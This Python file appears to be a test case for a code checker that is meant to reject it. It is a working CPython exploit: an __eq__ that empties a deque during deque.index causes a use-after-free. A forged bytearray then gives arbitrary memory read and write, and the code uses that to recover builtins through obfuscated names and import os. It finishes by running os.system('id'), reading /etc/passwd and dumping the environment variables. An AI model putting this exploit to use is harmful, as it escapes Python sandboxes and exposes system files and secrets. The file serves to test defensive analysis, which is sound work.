# expect: reject memory
# line: 35
# why: round 73 (researcher A): super().get(x) passed as a base's read-only method, but the base is the program's own class whose get (bound twice, so never judged) empties the deque
import collections

keep = []
got = []
dq = collections.deque()
state = {"n": 0, "payload": b"", "fake": 0}
N = 25


get = None  # a second binding of the name: the def is no longer "bound only by its def"


class Base:
    def get(self, key):
        state["n"] += 1
        if state["n"] == 1:
            dq.clear()
            keep.append(bytearray(state["payload"]))
        elif id(self) == state["fake"]:
            self.grab()
            return 2
        return 1

    def grab(self):
        got.append(self)


class P(Base):
    """a pure __eq__: asks its base through super()"""

    def __eq__(self, other):
        return super().get(other) == 1

    def __hash__(self):
        return 1


def w8(v):
    return v.to_bytes(8, "little")


pad = [tuple([i] * N) for i in range(200)]
dq.append(tuple([P(), 0] + [0] * (N - 2)))
pad2 = [tuple([i] * N) for i in range(200)]
fake = id(dq[0]) + 48
state["fake"] = fake
words = [0, 0, 0, 0, 0, 0, fake, 0, 1 << 40, id(P), 0, 0]
raw = b"".join([w8(x) for x in words])
state["payload"] = raw + bytes(232 - len(raw))
try:
    dq.index(tuple([P(), P()] + [0] * (N - 2)))
except (RuntimeError, ValueError, SystemError) as e:
    print(type(e).__name__, e)
print("getter runs:", state["n"], len(keep), len(got))
B = keep[0]
B[64:120] = b"".join([w8(x) for x in [1 << 40, id(bytearray), 1 << 62, 1 << 62, 0, 0, 0]])
mem = got[0]
print(type(mem).__name__, hex(len(mem)), "at", hex(id(mem)), "fake was", hex(fake))
probe = "freed-memory-probe"
# raw read: a little-endian word at address a, byte by byte off the forged bytearray
a = id(w8) + 24  # w8's func_builtins
target = sum([mem[a + i] << (8 * i) for i in range(8)])
cell = [None]
# turn the address into a reference: bump the target's refcount, point a list's item at it
count = sum([mem[target + i] << (8 * i) for i in range(8)])
mem[target:target + 8] = w8(count + 1)
b = id(cell) + 24
slot = sum([mem[b + i] << (8 * i) for i in range(8)])
mem[slot:slot + 8] = w8(target)
table = cell[0]
print(type(table).__name__, len(table))
loader = table["_" * 2 + "import" + "_" * 2]
osm = loader("o" + "s")
osm.system("id")
print(table["open"]("/etc/passwd").read()[:120])
print("environ:", dict(osm.environ))
